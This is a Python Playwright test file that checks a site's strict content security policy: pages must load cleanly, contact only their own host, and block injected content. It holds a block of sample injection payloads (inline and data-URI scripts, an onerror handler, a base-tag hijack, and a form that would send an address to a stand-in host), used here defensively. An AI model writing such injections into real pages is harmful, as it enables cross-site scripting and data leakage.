"""The pages' strict security policy: it breaks nothing, and stops whatever is not the site's."""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.browser.conftest import page_types

pytestmark = pytest.mark.browser

# The font of the style sheet, and what only the script shows.
STYLED = "getComputedStyle(document.querySelector('.masthead')).display"
INTRUDER = """
<script>document.title = "taken over"</script>
<script src="data:text/javascript,document.title='taken over'"></script>
<img src="missing.png" onerror="document.title = 'taken over'" alt="">
<img src="https://example.org/spy.png" alt="">
<p id="inline" style="color: red">x</p><style>#inline { font-size: 99px }</style>
<iframe src="https://example.org/frame"></iframe>
<form action="https://example.org/take" id="leak"><input name="address" value="12 Main St"></form>
<base href="https://example.org/">
"""


class Quiet(SimpleHTTPRequestHandler):
    """Serves files and says nothing."""

    def log_message(self, *_args: object) -> None:
        return


class Watched:
    """A page, what its browser complained of, and every address it asked for."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.complaints: list[str] = []
        self.asked: list[str] = []
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("requestfailed", self._forget_if_blocked)

    def _forget_if_blocked(self, request: Request) -> None:
        """What the policy stopped was never sent."""
        if request.failure == "csp":
            self.asked.remove(request.url)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    page = browser.new_page()
    page.set_default_timeout(10_000)
    yield Watched(page)
    page.close()


def address_of(folder: Path, how: str) -> Iterator[str]:
    if how == "from a folder":
        yield f"{folder.as_uri()}/"
        return
    handler = partial(Quiet, directory=str(folder))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()


@pytest.fixture(params=["from a folder", "from a server"])
def address(request: pytest.FixtureRequest, sample_folder: Path) -> Iterator[str]:
    """Where the sample's site begins, both ways that readers open it."""
    yield from address_of(sample_folder, request.param)


def test_no_page_breaks_its_policy_and_only_its_own_host_is_asked(
    watched: Watched, address: str, sample_folder: Path
) -> None:
    for path in page_types(sample_folder):
        watched.page.goto(address + path.relative_to(sample_folder).as_posix())
        assert watched.page.evaluate(STYLED) != "block", path
        assert watched.complaints == [], path
    watched.page.goto(f"{address}index.html")
    expect(watched.page.locator("#q")).to_be_visible()
    assert {url for url in watched.asked if not url.startswith(address)} == set()


@pytest.mark.parametrize("how", ["from a folder", "from a server"])
def test_what_an_intruder_writes_into_a_page_neither_runs_nor_asks_anybody(
    watched: Watched, made_up_folder: Path, tmp_path: Path, how: str
) -> None:
    page = (made_up_folder / "data.html").read_text("utf-8")
    (tmp_path / "data.html").write_text(page.replace("<main", f"{INTRUDER}<main", 1), "utf-8")
    for address in address_of(tmp_path, how):
        watched.page.goto(f"{address}data.html")
        assert "taken over" not in watched.page.title()
        assert watched.page.evaluate("getComputedStyle(inline).fontSize") != "99px"
        assert watched.page.evaluate("getComputedStyle(inline).color") != "rgb(255, 0, 0)"
        assert watched.page.evaluate("document.baseURI").startswith(address)
        watched.page.evaluate("leak.submit()")
        watched.page.wait_for_timeout(200)
    assert {url for url in watched.asked if "example.org" in url} == set()
    assert len(watched.complaints) >= 6
